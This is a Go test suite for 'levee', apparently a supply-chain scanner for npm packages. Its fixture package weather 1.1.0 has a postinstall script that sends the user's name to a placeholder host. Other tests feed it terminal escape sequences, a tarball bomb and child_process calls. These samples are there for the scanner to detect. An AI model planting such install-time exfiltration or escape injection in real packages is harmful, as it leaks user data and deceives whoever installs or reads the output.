package cli

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/tools/txtar"

	"levee/internal/registry/registrytest"
	"levee/internal/universe"
)

// shelf is a small registry with code in it: weather gained what a weather
// report does not need, quiet never could do anything.
const shelf = `
-- universe --
weather 1.0.0 2018-01-01 by ann of ann
weather 1.1.0 2018-02-01 by ann of ann
  scripts postinstall
  depends quiet ^1, fetcher ^1
quiet 1.0.0 2017-01-01 by bob of bob
fetcher 1.0.0 2017-01-01 by bob of bob
broken 1.0.0 2018-01-01 by bob of bob
forecast 1.0.0 2018-03-01 by cyd of cyd
-- weather@1.0.0/index.js --
exports.parse = text => JSON.parse(text)
-- weather@1.0.0/old.js --
exports.nothing = 1
-- weather@1.1.0/index.js --
const fs = require('fs')
const fetcher = require('fetcher')
exports.parse = text => JSON.parse(text)
exports.save = (name, text) => fs.writeFileSync('/tmp/weather.json', text)
-- weather@1.1.0/setup.js --
const https = require('https')
https.get('https://news.weather.invalid/hello?from=' + process.env.USER)
-- weather@1.1.0/package.json --
{"name": "weather", "version": "1.1.0", "scripts": {"postinstall": "node setup.js"}, "dependencies": {"quiet": "^1", "fetcher": "^1"}}
-- quiet@1.0.0/index.js --
exports.add = (a, b) => a + b
-- fetcher@1.0.0/index.js --
const http = require('http')
exports.get = host => http.get({ host: 'data.weather.invalid' })
-- forecast@1.0.0/index.js --
const weather = require('weather')
exports.tomorrow = weather.parse
-- broken@1.0.0/index.js --
this is (no JavaScript at all
`

// shop opens the registry, and a folder to work in.
func shop(t *testing.T, options ...registrytest.Option) *registrytest.Server {
	t.Helper()
	alone(t)
	u, err := universe.ParseArchive("test", txtar.Parse([]byte(shelf)))
	if err != nil {
		t.Fatal(err)
	}
	s := registrytest.New(t, u, options...)
	t.Setenv("npm_config_registry", s.URL)
	t.Chdir(t.TempDir())
	return s
}

// write makes files in the current folder.
func write(t testing.TB, files map[string]string) {
	t.Helper()
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}

// installed makes a project that has the packages of the shelf.
func installed(t *testing.T) {
	t.Helper()
	write(t, map[string]string{
		"package.json": `{"name": "app", "version": "2.0.0", "dependencies": {"forecast": "^1.0.0"}}`,
		"package-lock.json": `{"name": "app", "lockfileVersion": 3, "packages": {
"": {"name": "app", "version": "2.0.0", "dependencies": {"forecast": "^1.0.0"}},
"node_modules/forecast": {"version": "1.0.0", "dependencies": {"weather": "^1"}},
"node_modules/weather": {"version": "1.1.0", "dependencies": {"quiet": "^1", "fetcher": "^1"}},
"node_modules/quiet": {"version": "1.0.0"},
"node_modules/fetcher": {"version": "1.0.0"}}}`,
		"index.js": "require('forecast')\n",
	})
}

func TestInspectText(t *testing.T) {
	for name, c := range map[string]struct {
		args []string
		code int
	}{
		"inspect-one.golden":    {[]string{"weather"}, ExitFindings},
		"inspect-quiet.golden":  {[]string{"quiet@1.0.0"}, ExitOK},
		"inspect-change.golden": {[]string{"weather@1.0.0", "weather@1.1.0"}, ExitFindings},
		"inspect-all.golden":    {[]string{"--all"}, ExitFindings},
		"inspect-broken.golden": {[]string{"broken"}, ExitFindings},
		"inspect-file.golden":   {[]string{"./index.js"}, ExitOK},
	} {
		t.Run(name, func(t *testing.T) {
			wd, err := os.Getwd()
			if err != nil {
				t.Fatal(err)
			}
			shop(t)
			installed(t)
			code, out, stderr := levee(t, append([]string{"inspect"}, c.args...)...)
			if code != c.code || stderr != "" {
				t.Errorf("exit code %d, stderr %q", code, stderr)
			}
			if n := strings.Count(out, "\n"); n > 50 {
				t.Errorf("%d lines are more than a screen", n)
			}
			t.Chdir(wd)
			golden(t, name, out)
		})
	}
}

// inspected are the fields on which scripts depend.
type inspected struct {
	Schema   string
	Packages []struct {
		Label, Name, Version, Unread string
		Files                        []struct {
			Path, Digest, Kind, How string
			Size                    int
			Minified                bool
		}
		Capabilities []struct {
			Name, Detail, File, Phase string
			Line                      int
			Via                       []string
		}
		Gaps     []struct{ Why string }
		Findings []struct {
			Control, Constraint, State, Package, Message string
			Evidence                                     []struct{ What string }
		}
		Repository *struct{ State, Why string }
	}
	Change *struct {
		Files struct {
			Added, Removed, Changed []struct{ Path string }
			Same                    int
		}
		Gained, Lost []struct{ Name, File, Phase string }
		Places       []struct{ Name, Detail string }
		Scripts      []struct{ Name, After string }
		Dependencies []struct{ Name string }
	}
	Notes []string
}

func inspectJSON(t *testing.T, args ...string) (code int, doc inspected) {
	t.Helper()
	code, out, stderr := levee(t, append([]string{"inspect", "--json"}, args...)...)
	if err := json.Unmarshal([]byte(out), &doc); err != nil {
		t.Fatalf("%v: %s%s", err, out, stderr)
	}
	rest := strings.NewReplacer(`"repository": null`, "", `"location": null`, "").Replace(out)
	if doc.Schema != "levee-inspect/1" || strings.Contains(rest, ": null") {
		t.Errorf("schema %q, or a null that is none: %s", doc.Schema, out)
	}
	return code, doc
}

func TestInspectJSON(t *testing.T) {
	shop(t)
	code, doc := inspectJSON(t, "weather@1.0.0", "weather@1.1.0")
	if code != ExitFindings || len(doc.Packages) != 2 || doc.Change == nil {
		t.Fatalf("exit code %d: %+v", code, doc)
	}
	now := &doc.Packages[1]
	https := slices.IndexFunc(now.Capabilities, func(c struct {
		Name, Detail, File, Phase string
		Line                      int
		Via                       []string
	}) bool {
		return c.Name == "net" && c.Detail == "news.weather.invalid" && c.File == "setup.js" && c.Line == 2 && c.Phase == "install" && c.Via != nil && len(c.Via) == 0
	})
	if https < 0 || len(now.Files) != 3 || len(now.Files[0].Digest) != 32 || now.Files[0].How == "" {
		t.Errorf("%+v", now)
	}
	var found []string
	for _, f := range now.Findings {
		if f.State != "unknown" {
			found = append(found, f.Control)
		}
	}
	if !slices.Contains(found, "capabilitygain") || !slices.Contains(found, "installscripts") || len(doc.Packages[0].Findings) != 0 {
		t.Errorf("found %q", found)
	}
	c := doc.Change
	if len(c.Files.Added) != 1 || c.Files.Added[0].Path != "setup.js" || len(c.Files.Removed) != 1 || len(c.Scripts) != 1 || len(c.Dependencies) != 2 || len(c.Gained) == 0 {
		t.Errorf("change %+v", c)
	}
	if !strings.Contains(fmt.Sprint(c.Places), "{net news.weather.invalid}") || !strings.Contains(fmt.Sprint(c.Places), "{fs-write /tmp/weather.json}") {
		t.Errorf("places %+v", c.Places)
	}
	if _, doc := inspectJSON(t, "weather@1.1.0", "weather@1.1.0"); len(doc.Change.Gained)+len(doc.Change.Places)+len(doc.Change.Files.Changed) != 0 {
		t.Errorf("a package differs from itself: %+v", doc.Change)
	}
}

// What a package reaches by what it imports is told with the way.
func TestInspectAllReaches(t *testing.T) {
	shop(t)
	installed(t)
	_, doc := inspectJSON(t, "--all")
	var ways []string
	for _, p := range doc.Packages {
		for _, c := range p.Capabilities {
			if len(c.Via) > 0 {
				ways = append(ways, fmt.Sprint(p.Name, " ", c.Name, " ", c.Detail, " ", c.Phase, " ", c.Via))
			}
		}
	}
	// weather has net itself, and earlier than by fetcher: its install script
	// is nothing that importing it runs.
	want := []string{"forecast net data.weather.invalid call [weather@1.1.0 fetcher@1.0.0]", "forecast fs-write /tmp/weather.json call [weather@1.1.0]"}
	if d := cmp.Diff(want, ways); d != "" {
		t.Error(d)
	}
	if len(doc.Packages) != 4 || doc.Packages[0].Name != "weather" {
		t.Errorf("%+v, want weather first", doc.Packages)
	}
}

// A tarball, the folder that it came from and the package are the same thing.
func TestInspectPlaces(t *testing.T) {
	s := shop(t)
	u, _ := universe.ParseArchive("test", txtar.Parse([]byte(shelf)))
	write(t, map[string]string{
		"weather.tgz":         string(u.Tarball("weather", "1.1.0")),
		"folder/package.json": string(u.Tree("weather", "1.1.0").Lookup("package.json").Data),
		"folder/index.js":     string(u.Tree("weather", "1.1.0").Lookup("index.js").Data),
		"folder/setup.js":     string(u.Tree("weather", "1.1.0").Lookup("setup.js").Data),
		"folder/.npmignore":   "notes\n", "folder/notes": "not published",
		"folder/node_modules/other/index.js": "require('child_process').exec('x')",
	})
	for _, pair := range [][]string{{"weather.tgz", "weather@1.1.0"}, {"./folder", "weather@1.1.0"}, {"weather@1.1.0", "./folder"}, {"./folder", "./weather.tgz"}} {
		_, doc := inspectJSON(t, pair...)
		f := doc.Change.Files
		if len(f.Added)+len(f.Removed)+len(f.Changed) != 0 || f.Same != 3 {
			t.Errorf("%q: %+v", pair, f)
		}
		if strings.Contains(strings.Join(pair, " "), "./folder") != strings.Contains(fmt.Sprint(doc.Notes), "npm would publish 3 of its 5 files") {
			t.Errorf("%q: notes %q", pair, doc.Notes)
		}
	}
	if _, doc := inspectJSON(t, "./folder"); len(doc.Packages[0].Files) != 5 {
		t.Errorf("alone a folder is read as it stands: %+v", doc.Packages[0].Files)
	}
	before := s.Total()
	if code, doc := inspectJSON(t, "weather.tgz", "--offline"); code != ExitFindings || doc.Packages[0].Name != "weather" || s.Total() != before {
		t.Errorf("exit code %d: %+v", code, doc.Packages)
	}
	write(t, map[string]string{"one.js": "require('child_process').exec('ls')", "typed.ts": "const n: number = 1", "text": "neither", "run": "#!/usr/bin/env node\nrequire('fs').unlinkSync('x')\n"})
	if code, doc := inspectJSON(t, "one.js"); code != ExitOK || len(doc.Packages[0].Files) != 1 || len(doc.Packages[0].Capabilities) == 0 || doc.Packages[0].Capabilities[0].Phase != "import" {
		t.Errorf("exit code %d: %+v", code, doc.Packages)
	}
	if code, doc := inspectJSON(t, "run"); code != ExitOK || len(doc.Packages[0].Capabilities) != 1 {
		t.Errorf("a script without an ending: exit code %d: %+v", code, doc.Packages)
	}
}

// Versions, tags, ranges and what is installed.
func TestInspectVersions(t *testing.T) {
	shop(t)
	for arg, want := range map[string]string{"weather": "weather@1.1.0", "weather@latest": "weather@1.1.0", "weather@1.0.0": "weather@1.0.0", "weather@~1.0": "weather@1.0.0"} {
		if _, doc := inspectJSON(t, arg); doc.Packages[0].Label != want {
			t.Errorf("%s is %s, want %s", arg, doc.Packages[0].Label, want)
		}
	}
	if _, doc := inspectJSON(t, "weather", "--as-of", "2018-01-15"); doc.Packages[0].Label != "weather@1.0.0" {
		t.Errorf("in January it is %s", doc.Packages[0].Label)
	}
	write(t, map[string]string{"package-lock.json": `{"lockfileVersion": 3, "packages": {"": {"dependencies": {"weather": "1.0.0"}}, "node_modules/weather": {"version": "1.0.0"}}}`})
	if _, doc := inspectJSON(t, "weather"); doc.Packages[0].Label != "weather@1.0.0" {
		t.Errorf("what is installed is %s", doc.Packages[0].Label)
	}
}

// A map of one's own tells more, and what it told is kept apart.
func TestInspectMap(t *testing.T) {
	shop(t)
	write(t, map[string]string{"more.txt": "[package]\nquiet.add   exec command=0\n", "use.js": "require('quiet').add('rm')\n", "wrong.txt": "nonsense here = =\n"})
	if _, doc := inspectJSON(t, "use.js"); len(doc.Packages[0].Capabilities) != 0 {
		t.Errorf("%+v", doc.Packages[0].Capabilities)
	}
	if _, doc := inspectJSON(t, "use.js", "--map", "more.txt"); len(doc.Packages[0].Capabilities) != 1 || doc.Packages[0].Capabilities[0].Name != "exec" {
		t.Errorf("%+v", doc.Packages[0].Capabilities)
	}
	if code, _, stderr := levee(t, "inspect", "use.js", "--map", "wrong.txt"); code != ExitFailed || !strings.Contains(stderr, "wrong.txt:1") {
		t.Errorf("exit code %d, %q", code, stderr)
	}
}

// packed makes a tarball of what f writes.
func packed(t *testing.T, f func(w *tar.Writer)) string {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	f(w)
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func put(t *testing.T, w *tar.Writer, name string, size int64) {
	t.Helper()
	if err := w.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: size, Typeflag: tar.TypeReg}); err != nil {
		t.Fatal(err)
	}
}

func TestInspectBadInput(t *testing.T) {
	shop(t, registrytest.Fault(func(w http.ResponseWriter, _ *http.Request, name string) bool {
		if name != "quiet/-/quiet-1.0.0.tgz" {
			return false
		}
		fmt.Fprint(w, packed(t, func(tw *tar.Writer) { put(t, tw, "other.js", 0) }))
		return true
	}))
	write(t, map[string]string{"none.tgz": "<html>", "page.html": "<p>", "bare/index.js": "1", "deep/package.json": "{"})
	for _, c := range []struct {
		args []string
		code int
		want string
	}{
		{[]string{"none.tgz"}, ExitFailed, "none.tgz: not a tarball"},
		{[]string{"page.html"}, ExitFailed, "page.html: neither a tarball nor JavaScript"},
		{[]string{"gone.tgz"}, ExitFailed, "gone.tgz: no such file or directory"},
		{[]string{"./gone"}, ExitFailed, "./gone: no such file or directory"},
		{[]string{"/dev/zero"}, ExitFailed, "want a tarball, a folder or a JavaScript file"},
		{[]string{"./bare", "weather"}, ExitFailed, "./bare: no package.json: npm would publish nothing of it"},
		{[]string{"quiet"}, ExitFailed, "quiet@1.0.0: the tarball is not the one that its integrity names"},
		{[]string{"nobody"}, ExitFailed, "nobody: "},
		{[]string{"weather@9.9.9"}, ExitFailed, "weather@9.9.9: the registry has no such version"},
		{[]string{"weather@next"}, ExitFailed, "hint: the latest is weather@1.1.0"},
		{[]string{"fetcher", "--offline"}, ExitFailed, "offline, and not asked before"},
		{[]string{"Not A Name"}, ExitUsage, "hint: a folder begins with . or /"},
		{[]string{"gone.js"}, ExitFailed, "gone.js: "},
		{[]string{"bare"}, ExitFailed, "hint: the folder here is ./bare"},
		{nil, ExitUsage, "inspect what?"},
		{[]string{"--all", "a", "b"}, ExitUsage, "--all takes one project"},
		{[]string{"a", "b", "c"}, ExitUsage, "accepts at most 2"},
		{[]string{"weather", "--as-of", "soon"}, ExitUsage, "want a date"},
		{[]string{"--all", "./bare"}, ExitFailed, "no package.json and no lockfile"},
		{[]string{"weather", "--map", "gone"}, ExitFailed, "gone: no such file"},
	} {
		code, out, stderr := levee(t, append([]string{"inspect"}, c.args...)...)
		if code != c.code || out != "" || !strings.Contains(stderr, c.want) || strings.Count(stderr, "\n") > 3 {
			t.Errorf("%q: exit code %d, stdout %.80q, stderr %q; want %d and %q", c.args, code, out, stderr, c.code, c.want)
		}
	}
}

// What is only partly readable is read as far as it goes, and never passes.
func TestInspectHugeInput(t *testing.T) {
	shop(t)
	write(t, map[string]string{
		"many.tgz": packed(t, func(w *tar.Writer) {
			for i := range 200_000 {
				put(t, w, fmt.Sprintf("f%d", i), 0)
			}
		}),
		"bomb.tgz": packed(t, func(w *tar.Writer) {
			put(t, w, "bomb.js", 60<<20)
			_, _ = w.Write(make([]byte, 60<<20)) // less than announced would be the next test
		}),
		"bare/index.js": "exports.x = 1\n",
	})
	for name, want := range map[string]string{"many.tgz": "too many entries", "bomb.tgz": "unpacks to far more than it should", "./bare": "no package.json"} {
		code, out, stderr := levee(t, "inspect", name)
		if code != ExitFindings || !strings.Contains(out, want) || stderr != "" {
			t.Errorf("%s: exit code %d, %s%s", name, code, out, stderr)
		}
	}
}

// Nothing that a package says of itself reaches the terminal as a control
// sequence.
func TestInspectIsPlain(t *testing.T) {
	shop(t)
	evil := "\x1b]0;owned\x07\u202e"
	write(t, map[string]string{
		"p/package.json": `{"name": "p` + `\u001b[31m` + `", "version": "1\u0007", "main": "./a.js", "scripts": {"install": "node \u001b[31m\u202e"}, "bin": {"\u001b[1m": "a.js"}, "dependencies": {"\u001b": "\u0007"}}`,
		"p/a.js":         "require('https').get('https://x.invalid/" + `\x1b[31m\u202e` + "'); require('" + `\x1b[32m` + "'); process.env['" + `\x1b\x07` + "']",
	})
	if err := os.WriteFile(filepath.Join("p", "b"+evil[:4]+".js"), []byte("require('fs').readFileSync('\\x1b')"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"./p"}, {"./p", "--all-lines"}, {"./p", "./p"}, {"weather", "./p"}, {"./p", "weather"}, {"./" + evil}} {
		_, out, stderr := levee(t, append([]string{"inspect"}, args...)...)
		if strings.ContainsAny(out+stderr, "\x1b\x07\u202e") {
			t.Errorf("%q lets an escape through: %q", args, out+stderr)
		}
	}
}

// The repository is asked only if that was wanted; what only the tarball has is
// a finding.
func TestInspectRepository(t *testing.T) {
	if testing.Short() {
		t.Skip("runs git")
	}
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	shop(t)
	write(t, map[string]string{
		"clone/package.json": `{"name": "weather", "version": "1.1.0"}`,
		"clone/index.js":     "const fs = require('fs')\nconst fetcher = require('fetcher')\nexports.parse = text => JSON.parse(text)\nexports.save = (name, text) => fs.writeFileSync('/tmp/weather.json', text)\n",
	})
	for _, args := range [][]string{{"init", "-q"}, {"add", "-A"}, {"-c", "user.name=a", "-c", "user.email=a@mail.example", "commit", "-q", "-m", "x"}, {"tag", "v1.1.0"}} {
		cmd := exec.Command("git", args...)
		cmd.Dir = "clone"
		cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL="+os.DevNull)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	code, out, stderr := levee(t, "inspect", "weather", "--repository", "./clone")
	if code != ExitFindings || stderr != "" || !strings.Contains(out, "sourcemismatch    only the tarball has setup.js") || !strings.Contains(out, "1 file equal, 1 added") {
		t.Errorf("exit code %d, %s%s", code, out, stderr)
	}
	if _, doc := inspectJSON(t, "weather", "--repository", "./clone"); doc.Packages[0].Repository == nil || doc.Packages[0].Repository.State != "differs" {
		t.Errorf("%+v", doc.Packages[0].Repository)
	}
	installed(t)
	if _, doc := inspectJSON(t, "--all", "--repository", "."); doc.Packages[0].Repository == nil {
		t.Errorf("%+v", doc.Packages[0])
	}
	_, doc := inspectJSON(t, "quiet", "--repository", "auto", "--offline")
	if r := doc.Packages[0].Repository; r == nil || r.State != "unknown" {
		t.Errorf("%+v", r)
	}
	if _, doc := inspectJSON(t, "weather"); doc.Packages[0].Repository != nil {
		t.Errorf("nobody asked for %+v", doc.Packages[0].Repository)
	}
}

// A direct dependency that the project's own code does not ask for is told, and
// only then.
func TestCheckReadsOwnCode(t *testing.T) {
	shop(t)
	installed(t)
	if _, out, _ := levee(t, "check", "--json"); strings.Contains(out, "no file of the project asks for it") {
		t.Errorf("index.js requires forecast: %s", out)
	}
	write(t, map[string]string{"index.js": "exports.own = 1\n", "dist/made.js": "require('forecast')", ".gitignore": "dist\n"})
	if _, out, _ := levee(t, "check", "--json"); !strings.Contains(out, "forecast is a direct dependency, and no file of the project asks for it") {
		t.Errorf("nobody asks for forecast: %s", out)
	}
	if _, out, _ := levee(t, "check", "--json", "--no-code"); !strings.Contains(out, "the project's own code was not read") {
		t.Errorf("--no-code: %s", out)
	}
}

// A run that was interrupted goes on where it was.
func TestInspectResumes(t *testing.T) {
	s := shop(t)
	installed(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	var out, stderr bytes.Buffer
	if code := Run(ctx, []string{"inspect", "--all"}, Streams{Out: &out, Err: &stderr}); code != ExitFailed || !strings.Contains(stderr.String(), "interrupted") {
		t.Errorf("exit code %d, %q", code, stderr.String())
	}
	_, first, _ := levee(t, "inspect", "--all")
	asked := s.Total()
	if _, again, _ := levee(t, "inspect", "--all"); again != first || s.Total() != asked {
		t.Errorf("%d requests, then %d", asked, s.Total())
	}
}

// The record of a check has the code, and another look at it gives the same.
func TestRecordedCode(t *testing.T) {
	s := shop(t)
	installed(t)
	code, first, stderr := levee(t, "check", "--record", "evidence.ndjson", "--json")
	if code != ExitFindings || !strings.Contains(first, "installscripts") || !strings.Contains(first, `"capabilitygain"`) {
		t.Fatalf("exit code %d, %s%s", code, first, stderr)
	}
	record, err := os.ReadFile("evidence.ndjson")
	if err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(record, []byte(`"path":"setup.js"`)) {
		t.Error("the record lists files that no control asks for")
	}
	asked := s.Total()
	_, again, _ := levee(t, "check", "--evidence", "evidence.ndjson", "--json")
	if d := cmp.Diff(first, again); d != "" || s.Total() != asked {
		t.Errorf("%d requests, then %d; %s", asked, s.Total(), d)
	}
	if code, doc := inspectJSON(t, "weather", "--evidence", "evidence.ndjson"); code != ExitFindings || doc.Packages[0].Version != "1.1.0" || s.Total() != asked {
		t.Errorf("exit code %d: %+v", code, doc.Packages)
	}
	_, without, _ := levee(t, "check", "--no-code", "--json")
	if !strings.Contains(without, "not read: --no-code") || strings.Contains(without, `"sign","package":"weather"`) {
		t.Errorf("--no-code: %s", without)
	}
}
